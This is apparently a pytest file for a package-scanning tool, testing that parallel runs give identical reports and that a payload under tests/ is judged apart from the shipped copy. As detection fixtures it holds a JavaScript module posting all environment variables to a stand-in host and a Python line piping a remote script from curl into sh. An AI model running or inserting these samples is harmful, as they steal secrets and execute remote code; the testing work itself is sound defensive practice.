"""``--jobs N`` gives the same report as ``--jobs 1``, for every registered plug-in.

The artifacts are built to make every analyzer and cataloger report something, including what
crosses files (install hooks resolved in ``finish``, names declared in one file and checked
against another, text captured for a baseline diff): state an analyzer kept between files would
be lost in worker processes and show here as a difference.
"""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import pytest

from builders import gzip_bytes, tar_bytes, write, zip_bytes
from corpus import release_members
from finalexam.config import Config
from finalexam.diffing.api import diff
from finalexam.diffing.baseline import exam_with_baseline
from finalexam.diffing.render import DiffRenderOptions, render_json
from finalexam.exam import run_exam
from finalexam.model import Severity
from finalexam.registry import registered
from finalexam.report.base import RenderOptions
from finalexam.report.json import JsonReporter

STAMP = "2024-01-01T00:00:00Z"


@pytest.fixture(scope="module")
def release(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One bundle holding an sdist with install hooks, a wheel, an npm tarball, a jar, a deb
    and an ELF binary."""
    directory = tmp_path_factory.mktemp("parallel")
    return write(directory / "release.zip", zip_bytes(release_members(directory)))


def _config(jobs: int, **changes: object) -> Config:
    return replace(Config(), jobs=jobs, timestamp=STAMP, **changes)  # type: ignore[arg-type]


def _render(target: Path, config: Config) -> bytes:
    report = exam_with_baseline(target, config)
    return JsonReporter().render(report, RenderOptions(timestamp=STAMP))


def test_every_registered_plugin_runs_and_reports(release: Path) -> None:
    report = run_exam(release, _config(1))
    statuses = {(p.kind, p.name): (p.status, p.version) for p in report.plugins}
    opened = {"zip", "tar", "ar"}  # the unpackers of the zip, the tarballs and the .deb
    declared = {
        (p.kind, p.plugin.name): ("ok", p.plugin.version)  # type: ignore[attr-defined]
        for p in registered()
        if p.kind in ("cataloger", "analyzer")
        or (p.kind == "unpacker" and getattr(p.plugin, "name", "") in opened)
    }
    assert statuses == declared  # every registered plug-in ran, at its declared version
    found = {f.found_by for f in report.findings}
    # what crosses files: the install command's helper and the shadowing import package
    rules = {f.rule_id for f in report.findings}
    assert {"shadows-popular-package", "setup-command-override"} <= rules
    assert any(f.location and f.location.path.endswith("helpers.py") for f in report.findings)
    assert {"behavior", "secrets", "typosquat"} <= found
    assert report.indicators
    assert any(str(b["location"]).endswith("bin/hello") for b in report.binaries)
    assert any(c.name.endswith(":log4j-core") for c in report.components)
    assert any(c.name == "tool" and c.ecosystem == "Debian" for c in report.components)
    assert any(f.severity.rank >= Severity.HIGH.rank for f in report.findings)


def test_jobs_do_not_change_the_report(release: Path) -> None:
    serial = _render(release, _config(1))
    assert serial == _render(release, _config(2))


def _npm_release(directory: Path, version: str, files: dict[str, str]) -> Path:
    manifest = json.dumps({"name": "lib", "version": version}, indent=2)
    members = {"package/package.json": manifest, **{f"package/{k}": v for k, v in files.items()}}
    return write(directory / f"lib-{version}.tgz", gzip_bytes(tar_bytes(members)))


ADDED_CODE = """\
const https = require("https");
module.exports = function send(data) {
  const request = https.request({ host: "collect.example.net", method: "POST" });
  request.write(JSON.stringify(process.env));
  request.end();
};
"""


def test_jobs_do_not_change_a_baseline_diff(tmp_path: Path) -> None:
    old = _npm_release(tmp_path, "1.0.0", {"index.js": "module.exports = 1;\n"})
    new = _npm_release(
        tmp_path,
        "1.1.0",
        {"index.js": "module.exports = require('./send');\n", "send.js": ADDED_CODE},
    )
    options = DiffRenderOptions(timestamp=STAMP)
    rendered = [render_json(diff(old, new, _config(jobs)), options) for jobs in (1, 2)]
    assert rendered[0] == rendered[1]
    kinds = {change["kind"] for change in json.loads(rendered[0])["changes"]}
    assert "code-added" in kinds or "file-added" in kinds
    scans = [_render(new, _config(jobs, baseline=str(old))) for jobs in (1, 2)]
    assert scans[0] == scans[1]
    assert b"baseline_diff" in scans[0]


def test_a_copy_under_tests_does_not_lend_its_verdict_to_the_library(tmp_path: Path) -> None:
    """The same bytes under tests/ (test context: reported, not blocking) and in the package
    (shipped): each location is judged on its own, whatever comes first in the walk."""
    payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"
    members = {"pkg-1.0/tests/a_boot.py": payload, "pkg-1.0/pkg/__init__.py": payload}
    target = write(tmp_path / "pkg-1.0.tar", tar_bytes(members))
    for jobs in (1, 2):
        report = run_exam(target, replace(Config(), jobs=jobs))
        contexts = {}
        for finding in report.findings:
            if finding.location is not None and finding.kind.value in ("behavior", "malicious"):
                assert finding.severity.rank >= Severity.HIGH.rank
                contexts[finding.location.path] = finding.context
        assert contexts == {"pkg-1.0/pkg/__init__.py": "shipped", "pkg-1.0/tests/a_boot.py": "test"}
        blocked = " ".join(v.message for v in report.verdict.violations)
        assert "pkg/__init__.py" in blocked and "a_boot.py" not in blocked
